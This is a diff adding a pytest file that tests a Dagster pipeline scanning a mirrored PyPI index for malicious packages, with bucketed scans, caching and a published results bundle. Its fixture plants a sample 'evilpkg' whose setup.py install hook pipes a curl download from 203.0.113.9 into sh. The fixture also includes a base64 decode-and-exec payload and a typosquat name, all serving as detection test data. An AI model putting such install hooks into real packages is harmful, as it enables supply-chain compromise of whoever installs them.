@@ -1,0 +1,183 @@
+"""Global scans in Dagster: every bucket of a scan date over a real mirror on S3 and PostgreSQL, then the bundle."""
+
+import hashlib
+import io
+import json
+from datetime import date
+
+import dagster as dg
+import polars as pl
+import psycopg
+import pytest
+import zstandard
+
+from pypi_platform.defs.resources import ObjectStoreResource, PostgresResource, ScannerResource
+from pypi_platform.defs.scans.assets import (
+    BUCKET_KEYS,
+    SCANS_INDEX,
+    build_global_scan,
+    build_scan_dataset,
+    scan_dates,
+)
+from pypi_platform.lib.datasets.publish import DatasetFile, publish, read_file
+from pypi_platform.lib.scanner.state import bucket_of
+from pypi_platform_tests.dists import build_sdist, build_wheel
+from pypi_platform_tests.lib.index.helpers import sync
+
+SCAN_DATE = "2026-11-16"
+DATES = scan_dates(date(2026, 11, 2))
+PARTITIONS = dg.MultiPartitionsDefinition(
+    {"date": DATES, "bucket": dg.StaticPartitionsDefinition(BUCKET_KEYS)}
+)
+GLOBAL_SCAN = build_global_scan(PARTITIONS)
+SCAN_DATASET = build_scan_dataset(DATES)
+
+SETUP_PY = """\
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        os.system("curl -s http://203.0.113.9/x.sh | sh")
+
+
+setup(name="evilpkg", cmdclass={"install": PostInstall})
+"""
+PAYLOAD = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+
+
+@pytest.fixture
+def mirrored(fake_index, s3_store, database, tmp_path):
+    """Five projects: benign, malicious, a typosquat, one whose only file the filters skip, and one to lose."""
+    fake_index.add_release("alpha", "1.0")
+    fake_index.add_file(
+        "evilpkg", *build_sdist("evilpkg", "0.1", modules={"setup.py": SETUP_PY, "evil/__init__.py": PAYLOAD})
+    )
+    fake_index.add_file("reqeusts", *build_wheel("reqeusts", "2.0"))
+    fake_index.add_release("sdist-only", "1.0", wheel=False)
+    fake_index.add_file("lost", *build_wheel("lost", "1.0"))
+    report = sync(fake_index.url, s3_store, database, tmp_path, package_types=frozenset({"wheel", "sdist"}))
+    assert report.projects_failed == 0
+    with psycopg.connect(database) as conn:
+        conn.execute("DELETE FROM mirror.files WHERE project = 'sdist-only'")  # as if the filters skipped it
+        (lost_key,) = conn.execute("SELECT object_key FROM mirror.files WHERE project = 'lost'").fetchone()
+    s3_store.delete([lost_key])  # the mirror's state names a file the store no longer has
+    stats = pl.DataFrame({"package_name": ["requests", "alpha"], "downloads": [10**9, 5]})
+    buffer = io.BytesIO()
+    stats.write_parquet(buffer)
+    publish(
+        s3_store,
+        "download_stats_30d",
+        "v1",
+        [DatasetFile("download_stats_30d.parquet", buffer.getvalue(), 2)],
+    )
+    return s3_store
+
+
+def _resources(store, s3_endpoint, database, tmp_path) -> dict:
+    return {
+        "object_store": ObjectStoreResource(url=store.url, endpoint_url=s3_endpoint),
+        "postgres": PostgresResource(dsn=database),
+        "scanner": ScannerResource(
+            cache_dir=str(tmp_path / "scan-cache"), workers=2, timeout_seconds=60, memory_bytes=2**30
+        ),
+    }
+
+
+def _scan_bucket(bucket: str, resources: dict) -> dg.ExecuteInProcessResult:
+    key = dg.MultiPartitionKey({"date": SCAN_DATE, "bucket": bucket})
+    return dg.materialize([GLOBAL_SCAN], partition_key=key, resources=resources, selection=[GLOBAL_SCAN])
+
+
+def _metadata(result: dg.ExecuteInProcessResult) -> dict:
+    [event] = result.get_asset_materialization_events()
+    materialization = event.step_materialization_data.materialization
+    return {key: value.value for key, value in materialization.metadata.items()}
+
+
+def _records(store, manifest) -> dict[str, dict]:
+    raw = zstandard.ZstdDecompressor().decompressobj().decompress(read_file(store, manifest, "dataset.zst"))
+    return {record["name"]: record for record in map(json.loads, raw.splitlines())}
+
+
+def test_a_scan_date_publishes_one_record_per_mirrored_project(mirrored, s3_endpoint, database, tmp_path):
+    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
+    for bucket in BUCKET_KEYS[:-1]:
+        assert _scan_bucket(bucket, resources).success  # a failed package never fails its bucket
+    with pytest.raises(dg.Failure, match="1 of 64 buckets"):
+        dg.materialize([SCAN_DATASET], partition_key=SCAN_DATE, resources=resources)
+    assert _scan_bucket(BUCKET_KEYS[-1], resources).success
+
+    result = dg.materialize(
+        [SCAN_DATASET], partition_key=SCAN_DATE, resources=resources, raise_on_error=False
+    )
+    assert result.success
+    checks = {c.check_name: c for c in result.get_asset_check_evaluations()}
+    assert checks["scan_dataset_one_record_per_input"].passed
+    assert not checks["scan_dataset_failed_share"].passed  # 1 of 5 could not be fetched: over 2 %
+
+    index = json.loads(mirrored.get_bytes(SCANS_INDEX))
+    assert index["dataset"] == SCAN_DATE
+    records = _records(mirrored, index)
+    assert sorted(records) == ["alpha", "evilpkg", "lost", "reqeusts", "sdist-only"]
+    assert {name: r["status"] for name, r in records.items()} == {
+        "alpha": "ok",
+        "evilpkg": "ok",
+        "lost": "fetch-error",
+        "reqeusts": "ok",
+        "sdist-only": "no-files",
+    }
+    assert "sha256" in records["lost"]["error"] or "lost" in records["lost"]["error"]
+    evil = records["evilpkg"]
+    assert {"process.shell-download", "obfuscation.decode-and-exec", "install.cmdclass-override"} <= {
+        d["rule"] for d in evil["detections"]
+    }
+    assert all(not d["path"].startswith("/") for d in evil["detections"])
+    assert evil["score"] >= 90 > records["alpha"]["score"]
+    assert [d["rule"] for d in records["reqeusts"]["detections"]] == ["metadata.typosquat"]
+    assert (
+        records["alpha"]["files"][0]["sha256"]
+        == hashlib.sha256(mirrored.get_bytes(_object_key(database, "alpha"))).hexdigest()
+    )
+
+    listing = read_file(mirrored, index, "input_packages.txt").decode().split()
+    scanned = read_file(mirrored, index, "package_list.txt").decode().split()
+    assert listing == sorted(records) and scanned == ["alpha", "evilpkg", "reqeusts"]
+    joblog = read_file(mirrored, index, "joblog.txt").decode().splitlines()
+    assert joblog[0].split("\t")[-2:] == ["Status", "Command"] and len(joblog) == 6
+    assert {line.split("\t")[-1]: line.split("\t")[-2] for line in joblog[1:]}["lost"] == "fetch-error"
+    findings = pl.read_parquet(io.BytesIO(read_file(mirrored, index, "findings.parquet")))
+    assert set(findings.filter(pl.col("name") == "evilpkg")["rule"]) == {
+        d["rule"] for d in evil["detections"]
+    }
+    sums = read_file(mirrored, index, "checksums.sha256.txt").decode().splitlines()
+    for line in sums:
+        digest, name = line.split("  ")
+        assert hashlib.sha256(read_file(mirrored, index, name)).hexdigest() == digest
+    assert b"ruleset version" in read_file(mirrored, index, "README.txt")
+
+
+def test_a_rerun_reads_files_and_results_from_the_caches(mirrored, s3_endpoint, database, tmp_path):
+    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
+    bucket = f"{bucket_of('evilpkg'):02d}"
+    first = _metadata(_scan_bucket(bucket, resources))
+    again = _metadata(_scan_bucket(bucket, resources))
+    assert first["files_fetched"] >= 1 and again["files_fetched"] == 0
+    assert again["files_from_local_cache"] == first["files_fetched"]
+    with psycopg.connect(database) as conn:
+        rows = conn.execute(
+            "SELECT name, status, record->'coverage'->>'cached_files' FROM scans.package_results"
+            " WHERE scan_date = %s AND bucket = %s",
+            (date.fromisoformat(SCAN_DATE), int(bucket)),
+        ).fetchall()
+    assert ("evilpkg", "ok", "1") in rows  # its one file's result came from scans.file_results
+
+
+def _object_key(database: str, project: str) -> str:
+    with psycopg.connect(database) as conn:
+        return conn.execute("SELECT object_key FROM mirror.files WHERE project = %s", (project,)).fetchone()[
+            0
+        ]
